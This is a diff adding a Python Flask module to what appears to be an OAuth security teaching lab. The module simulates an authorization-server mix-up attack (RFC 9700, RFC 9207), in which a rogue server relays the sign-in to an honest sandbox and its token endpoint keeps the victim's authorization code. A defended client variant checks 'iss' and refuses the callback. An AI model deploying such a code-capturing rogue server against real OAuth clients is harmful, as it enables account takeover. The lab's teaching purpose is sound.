@@ -1,0 +1,96 @@
+"""Lab "mix-up": the attacker's authorization server forwards the sign-in to the
+honest one, and a client that ignores ``iss`` sends the code to the attacker
+(RFC 9700 §4.4, RFC 9207)."""
+
+from __future__ import annotations
+
+import hmac
+import json
+import secrets
+from urllib.parse import urlencode
+
+import requests
+from flask import Config
+from flask import Response
+from flask import redirect
+from flask import request
+
+from ..runner.capture import capture_session
+from ..runner.capture import exchange_of
+from . import client
+from .catalogue import Lab
+from .store import Run
+
+RIVAL_CLIENT_ID = "playlistpal"  # the client's registration at the attacker's AS
+
+
+def rival_issuer(run: Run, config: Config) -> str:
+    """The attacker's issuer URL, a second authorization server the client uses."""
+    return f"{config['LABS_ATTACKER_URL']}/labs/{run.lab}/{run.id}/as"
+
+
+def start_login(run: Run, lab: Lab, config: Config) -> str:
+    """The user picks "Sign in with Rival Music": the client remembers which server
+    it started with, and uses its one shared callback (RFC 9700 §4.4.1)."""
+    state = run.client["state"] = secrets.token_urlsafe(24)
+    run.client["issuer"] = rival_issuer(run, config)
+    params = {"response_type": "code", "client_id": RIVAL_CLIENT_ID,
+              "scope": client.SCOPE, "redirect_uri": client.redirect_uri(run),
+              "state": state}
+    return run.client["issuer"] + "/authorize?" + urlencode(params)
+
+
+def serve(run: Run, lab: Lab, endpoint: str, config: Config) -> Response:
+    """The attacker's authorization server: ``authorize`` forwards the browser to
+    the honest sandbox with the client's id there; ``token`` keeps the code."""
+    if endpoint == "authorize":
+        run.record("rival-authorize", "attacker", "front", client.received())
+        params = {**request.args, **client.authorize_params(
+            run, config, request.args.get("state", ""))}
+        return redirect(run.origin + "/sandbox/authorize?" + urlencode(params), 302)
+    if endpoint == "token" and request.method == "POST":
+        run.attacker["code"] = request.form.get("code")
+        body = {"error": "invalid_grant", "error_description": "Try again later"}
+        return Response(json.dumps(body), 400, {"Content-Type": "application/json",
+                                               "Cache-Control": "no-store"})
+    return Response("Not found", 404)
+
+
+def finish_login(run: Run, lab: Lab, config: Config, args) -> None:
+    """The shared callback: state checked; the defended client also checks that
+    ``iss`` names the server this sign-in started at (RFC 9207 §2.4)."""
+    run.record("callback", "victim", "front", client.received())
+    if not client.state_ok(run, lab, args.get("state")) or not args.get("code"):
+        run.client["refused"] = True
+        return
+    started = run.client.get("issuer", "")
+    if lab.variants[run.variant].check_iss and not hmac.compare_digest(
+            args.get("iss", ""), started):
+        run.client["refused"] = (f"{lab.client_name} refused the callback: iss "
+                                 "names another server than the one it started at.")
+        return
+    form = {"grant_type": "authorization_code", "code": args["code"],
+            "redirect_uri": client.redirect_uri(run)}
+    session = capture_session(requests.Session())
+    response = session.post(started + "/token", auth=(RIVAL_CLIENT_ID, "rival-secret"),
+                            data=form, timeout=config["HTTP_TIMEOUT"],
+                            allow_redirects=False)
+    run.record("token", "victim", "back", exchange_of(session, response))
+
+
+def attacker_view(run: Run, lab: Lab) -> dict:
+    """What the attacker's token endpoint received."""
+    if not run.attacker.get("code"):
+        return {}
+    return {"heading": "Alice's code, sent to the attacker's token endpoint",
+            "text": "The client sent it here, believing this server had answered:",
+            "shown": f"code={run.attacker['code']}"}
+
+
+def succeeded(run: Run) -> bool | None:
+    """On the wire: did the client send the code to the attacker's server?"""
+    if not run.entries("callback"):
+        return None
+    token = run.entries("token")
+    return bool(token) and token[-1].exchange.url.startswith(
+        "http://127.0.0.2") and "code=" in token[-1].exchange.request.body
